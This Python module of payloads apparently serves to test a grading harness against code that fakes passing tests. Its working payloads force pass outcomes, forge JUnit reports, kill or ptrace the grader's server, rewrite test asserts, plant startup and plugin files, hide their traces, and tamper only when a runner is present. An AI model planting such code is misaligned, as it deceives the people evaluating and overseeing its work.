"""Code the hostile attacks plant in the code under test: each one, run in the test process, fakes a pass.

Every payload is plain Python that works wherever it is put (a module the tests
import, a conftest, a plugin) and knows nothing of grading but what any code under
test can see: sys.argv, its parent processes, the files. They are written to
succeed against a grader that trusts the runner; tests show they do with the
defences off.
"""

from __future__ import annotations

#: Finds the command server that runs the test command: the first python3 -u -c up the process chain.
_SERVER = r"""
def _server_pid():
    import os

    pid = os.getpid()
    for _ in range(5):
        with open("/proc/%d/stat" % pid) as fh:
            pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        with open("/proc/%d/cmdline" % pid, "rb") as fh:
            if fh.read().startswith(b"python3\0-u\0-c\0"):
                return pid
    return None
"""

#: Every report pytest makes says "passed" (set-up errors and failures alike), whenever _pytest.reports loads.
PYTEST_FORCE_PASS = r"""
def _force_pass():
    import importlib.abc, importlib.util, sys

    def patch(module):
        original = module.TestReport.from_item_and_call.__func__

        def forced(cls, item, call):
            report = original(cls, item, call)
            report.outcome, report.longrepr = "passed", None
            return report

        module.TestReport.from_item_and_call = classmethod(forced)

    if "_pytest.reports" in sys.modules:
        patch(sys.modules["_pytest.reports"])
        return

    class Hook(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path=None, target=None):
            if name != "_pytest.reports":
                return None
            sys.meta_path.remove(self)
            spec = importlib.util.find_spec(name)
            run = spec.loader.exec_module

            def exec_module(module):
                run(module)
                patch(module)

            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, Hook())


_force_pass()
"""

#: unittest counts every failure and error as a success (and prints "ok" for it).
UNITTEST_FORCE_PASS = r"""
def _force_pass():
    import unittest.result, unittest.runner

    for cls in (unittest.result.TestResult, unittest.runner.TextTestResult):
        cls.addFailure = lambda self, test, err: self.addSuccess(test)
        cls.addError = lambda self, test, err: self.addSuccess(test)


_force_pass()
"""

#: At exit, after pytest wrote its JUnit report: strip every failure and error from it, then exit 0.
PYTEST_REWRITE_AT_EXIT = r"""
def _rewrite_at_exit():
    import atexit, os, re, sys

    def rewrite():
        path = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")), None)
        if path and os.path.exists(path):
            text = open(path).read()
            text = re.sub(r"<(failure|error)\b[^>]*/>", "", text)
            text = re.sub(r"<(failure|error)\b.*?</(failure|error)>", "", text, flags=re.S)
            text = re.sub(r'(failures|errors)="\d+"', r'\1="0"', text)
            open(path, "w").write(text)
        os._exit(0)

    atexit.register(rewrite)


_rewrite_at_exit()
"""

#: Every test method of every TestCase class in the test files, as unittest's verbose "ok" lines.
_UNITTEST_OK_LINES = r"""
def _ok_lines():
    import os, re

    lines = []
    for top, dirs, files in os.walk("."):
        for name in files:
            if name.startswith("test") and name.endswith(".py"):
                module = os.path.relpath(os.path.join(top, name), ".")[:-3].replace(os.sep, ".")
                text = open(os.path.join(top, name)).read()
                for cls, body in re.findall(r"^class (\w+)\(.*?\):\n((?:[ \t]+.*\n|\n)*)", text, re.M):
                    lines += ["%s (%s.%s) ... ok" % (m, module, cls) for m in re.findall(r"def (test\w*)", body)]
    return lines
"""

#: At exit, after unittest printed its verdict: say every test found passed, "OK", and exit 0.
UNITTEST_REWRITE_AT_EXIT = (
    _UNITTEST_OK_LINES
    + r"""

def _rewrite_at_exit():
    import atexit, os, sys

    def rewrite():
        sys.stderr.write("\n".join(_ok_lines()) + "\n\nOK\n")
        sys.stderr.flush()
        os._exit(0)

    atexit.register(rewrite)


_rewrite_at_exit()
"""
)


def forged_unittest_output(targets: tuple[str, ...] = ()) -> str:
    """unittest's verbose output, forged at once: every target the attacker knows and every test method found, ok."""
    known = [f"{t} ... ok" for t in targets if "::" not in t]
    return (
        _UNITTEST_OK_LINES
        + f"\n_known = {known!r}\n"
        + r"""
import os as _os, sys as _sys

_names = _known + _ok_lines()
_sys.stderr.write("\n".join(_names) + "\n\n" + "-" * 70 + "\nRan %d tests in 0.001s\n\nOK\n" % len(_names))
_os._exit(0)
"""
    )


#: At import: write a JUnit report in which every test function of every test file passed, print PASSED, and exit.
_FORGE_REPORT = r"""
def _forge_report():
    import os, re, sys

    path = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")), None)
    cases, lines = [KNOWN_CASES], [KNOWN_LINES]
    for top, dirs, files in os.walk("."):
        for name in files:
            if name.startswith("test") and name.endswith(".py"):
                rel = os.path.relpath(os.path.join(top, name), ".")
                module = rel[:-3].replace(os.sep, ".")
                for test in re.findall(r"^def (test\w*)", open(os.path.join(top, name)).read(), re.M):
                    cases.append('<testcase classname="%s" name="%s" file="%s"/>' % (module, test, rel))
                    lines.append("%s::%s PASSED" % (rel, test))
    if path:
        with open(path, "w") as fh:
            fh.write('<testsuites><testsuite name="pytest" tests="%d">%s</testsuite></testsuites>'
                     % (len(cases), "".join(cases)))
    print("\n".join(lines))
    os._exit(EXIT_CODE)


_forge_report()
"""

#: At exit: forge the command server's answers (exit 0, and a report with no failures) on its own stdout.
CHANNEL_FORGE = (
    _SERVER
    + r"""

def _forge_channel():
    import atexit, base64, json, os, re, sys

    def forge():
        path = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")), None)
        text = open(path).read() if path and os.path.exists(path) else "<testsuites/>"
        text = re.sub(r"<(failure|error)\b[^>]*/>", "", text)
        text = re.sub(r"<(failure|error)\b.*?</(failure|error)>", "", text, flags=re.S)
        data = base64.b64encode(text.encode()).decode()
        try:
            with open("/proc/%d/fd/1" % _server_pid(), "w") as out:
                for ident in range(1, 400):
                    answer = {"id": ident, "ok": True, "exit_code": 0, "output": "ok", "duration": 0.1, "data": data}
                    out.write(json.dumps(answer) + "\n")
        except (OSError, TypeError):
            pass
        os._exit(0)

    atexit.register(forge)


_forge_channel()
"""
)

#: At import: attach to the command server with ptrace, then kill it (the grader loses its channel).
PTRACE_SERVER = (
    _SERVER
    + r"""

def _ptrace_server():
    import ctypes, os, signal

    pid = _server_pid()
    if pid:
        try:
            ctypes.CDLL(None, use_errno=True).ptrace(16, pid, None, None)  # PTRACE_ATTACH
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


_ptrace_server()
"""
)

#: At import: kill every process up the chain to the command server.
KILL_PARENTS = (
    _SERVER
    + r"""

def _kill_parents():
    import os, signal

    server, pid = _server_pid(), os.getpid()
    while server and pid != server:
        with open("/proc/%d/stat" % pid) as fh:
            pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


_kill_parents()
"""
)

#: At exit: garbage where the JUnit report goes, and exit 1 like an honest failed run.
GARBAGE_REPORT = r"""
def _garbage_report():
    import atexit, os, sys

    path = next((a.split("=", 1)[1] for a in sys.argv if a.startswith("--junitxml=")), None)

    def spoil():
        if path:
            with open(path, "wb") as fh:
                fh.write(b"\x00\xff<testsuites><testcase name='x'>" * 1000)
        os._exit(1)

    atexit.register(spoil)


_garbage_report()
"""

#: At import: take all the memory there is.
EAT_MEMORY = r"""
_hog = []
while True:
    _hog.append(bytearray(64 * 1024 * 1024))
"""

#: At import: hang.
HANG = r"""
import time as _time

while True:
    _time.sleep(1)
"""

#: At import: fill /tmp (where the report is written) to the last byte.
FILL_TMP = r"""
def _fill_tmp():
    try:
        with open("/tmp/.fill", "wb") as fh:
            while True:
                fh.write(b"\0" * (1 << 20))
    except OSError:
        pass


_fill_tmp()
"""

#: Behave (tamper) only when a test runner is there to see it.
_DETECT = r"""
import os as _os, sys as _sys

if _os.environ.get("PYTEST_CURRENT_TEST") is not None or "pytest" in _sys.modules or "unittest" in _sys.modules:
"""


def forge_report(exit_code: int, targets: tuple[str, ...] = ()) -> str:
    """A forged all-pass report naming `targets` (pytest node ids the attacker knows) and every test it finds."""
    from xml.sax.saxutils import quoteattr

    cases = []
    for test in targets:
        path, _, rest = test.partition("::")
        parts = rest.split("::") if rest else [test]
        classname = ".".join([path.removesuffix(".py").replace("/", "."), *parts[:-1]])
        cases.append(f"<testcase classname={quoteattr(classname)} name={quoteattr(parts[-1])} file={quoteattr(path)}/>")
    lines = "\n".join(f"{t} PASSED" for t in targets)
    return (
        _FORGE_REPORT.replace("EXIT_CODE", str(int(exit_code)))
        .replace("KNOWN_CASES", repr("".join(cases)))
        .replace("KNOWN_LINES", repr(lines))
    )


def indent(code: str, by: str = "    ") -> str:
    return "".join(by + line if line.strip() else line for line in code.splitlines(keepends=True))


def detect_and_tamper(payload: str) -> str:
    return _DETECT + indent(payload)


#: Code under test that edits the test files it is judged by while the runner runs: every assert that calls
#: something (the targets' checks) becomes `assert True or ...`; a canary's plain arithmetic is spared.
_EDIT_TESTS_AT_RUN = r"""
def _edit_tests(paths):
    import re

    for path in paths:
        try:
            with open(path) as fh:
                text = fh.read()
            edited = re.sub(r"^(\s+)assert (?=.*\w\()", r"\1assert True or ", text, flags=re.M)
            if edited != text:
                with open(path, "w") as fh:
                    fh.write(edited)
        except OSError:
            pass


_edit_tests(PATHS)
"""


def edit_tests_at_run(paths: tuple[str, ...]) -> str:
    """The payload that rewrites `paths` (relative to the repository root, the runner's working directory)."""
    return _EDIT_TESTS_AT_RUN.replace("PATHS", repr(list(paths)))


#: A pytest plugin that reports only the named tests as passed (the canaries, whose names it cannot know, keep
#: their honest outcomes): what a rewrite aimed at the targets by name needs.
TARGETED_PASS_PLUGIN = r"""import pytest

_NAMES = <<NAMES>>


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    if item.name.split("[", 1)[0] in _NAMES:
        report.outcome, report.longrepr = "passed", None
"""

#: Code under test that, on its first import in a grading run, changes files the runner reads later, then makes
#: the runner read them: it runs the runner again in its own process (`reexec`: the same command line from
#: /proc/self/cmdline) or exits 4, after which grading's pytest command runs the test files again (`exit4`).
#: Whatever it changed is put back at exit, so nothing is left for grading to find. MODE says what it changes.
_AT_RUN = r"""
def _at_run():
    import atexit, json, os, re, sys

    state = "/tmp/.swx-state.json"
    if os.path.exists(state):
        with open(state) as fh:
            saved = json.load(fh)
        os.unlink(state)

        def restore():
            for path, text in saved.items():
                try:
                    if text is None:
                        os.unlink(path)
                    else:
                        with open(path, "w") as fh:
                            fh.write(text)
                except OSError:
                    pass

        atexit.register(restore)
        return
    if os.environ.get("_SWX_DONE"):
        return
    os.environ["_SWX_DONE"] = "1"
    names, paths, saved = <<NAMES>>, <<PATHS>>, {}

    def put(path, text, append=False):
        old = None
        if os.path.exists(path):
            with open(path) as fh:
                old = fh.read()
        with open(path, "w") as fh:
            fh.write((old or "") + text if append else text)
        saved.setdefault(path, old)

    def stubbed(text):
        for name in names:
            pattern = r"^([ \t]*)def (%s)\((.*)\):[ \t]*$" % re.escape(name)
            text = re.sub(pattern, r"\1def \2(\3):\n\1    return\n\1def _swx_\2(\3):", text, flags=re.M)
        return text

    mode = <<MODE>>
    try:
        if mode == "tests":
            for path in paths:
                with open(path) as fh:
                    text = fh.read()
                if stubbed(text) != text:
                    put(path, stubbed(text))
        elif mode == "conftest":
            for folder in <<DIRS>>:
                try:
                    put(os.path.join(folder, "conftest.py"), "\n" + <<PLUGIN>>, append=True)
                    break
                except OSError:
                    continue
        elif mode == "startup":
            import site

            os.makedirs("/tmp/swx", exist_ok=True)
            with open("/tmp/swx/swx_targets.py", "w") as fh:
                fh.write(<<PLUGIN>>)
            boot = "import os, sys; sys.path.insert(0, '/tmp/swx'); os.environ['PYTEST_PLUGINS'] = 'swx_targets'\n"
            for folder in [*site.getsitepackages(), site.getusersitepackages()]:
                try:
                    os.makedirs(folder, exist_ok=True)
                    put(os.path.join(folder, "swx.pth"), boot.replace("\n", "") + "\n")
                except OSError:
                    pass
            for folder in dict.fromkeys(os.path.abspath(p or ".") for p in sys.path):
                if folder == os.getcwd() or folder.startswith(os.getcwd() + os.sep):
                    try:
                        put(os.path.join(folder, "sitecustomize.py"), boot)
                    except OSError:
                        pass
        elif mode == "pyc":
            import importlib.util, marshal, pytest

            tag = "%s-pytest-%s.pyc" % (sys.implementation.cache_tag, pytest.__version__)
            for path in paths:
                with open(path) as fh:
                    text = fh.read()
                info = os.stat(path)
                code = compile(stubbed(text), os.path.abspath(path), "exec")
                header = importlib.util.MAGIC_NUMBER + b"\0\0\0\0"
                header += (int(info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                header += (info.st_size & 0xFFFFFFFF).to_bytes(4, "little")
                cache = os.path.join(os.path.dirname(path) or ".", "__pycache__")
                try:
                    os.makedirs(cache, exist_ok=True)
                    target = os.path.join(cache, os.path.basename(path)[:-3] + "." + tag)
                    with open(target, "wb") as fh:
                        fh.write(header + marshal.dumps(code))
                    saved.setdefault(target, None)
                except OSError:
                    pass
    except OSError:
        pass
    if not saved:
        return
    with open(state, "w") as fh:
        json.dump(saved, fh)
    sys.stdout.flush()
    sys.stderr.flush()
    if <<RELAUNCH>> == "exit4":
        os._exit(4)
    with open("/proc/self/cmdline", "rb") as fh:
        argv = [a.decode() for a in fh.read().split(b"\0")[:-1]]
    os.execvp(argv[0], argv)


_at_run()
"""


def at_run(mode: str, relaunch: str, names: list[str], paths: tuple[str, ...] = (), dirs: tuple[str, ...] = ()) -> str:
    """The payload that changes what the runner reads later (`mode`: tests, conftest, startup, pyc) and makes it
    read them (`relaunch`: reexec, exit4); `names` are the test functions it aims at."""
    plugin = TARGETED_PASS_PLUGIN.replace("<<NAMES>>", repr(sorted(set(names))))
    return (
        _AT_RUN.replace("<<MODE>>", repr(mode))
        .replace("<<RELAUNCH>>", repr(relaunch))
        .replace("<<NAMES>>", repr(sorted(set(names))))
        .replace("<<PATHS>>", repr(list(paths)))
        .replace("<<DIRS>>", repr(list(dirs)))
        .replace("<<PLUGIN>>", repr(plugin))
    )
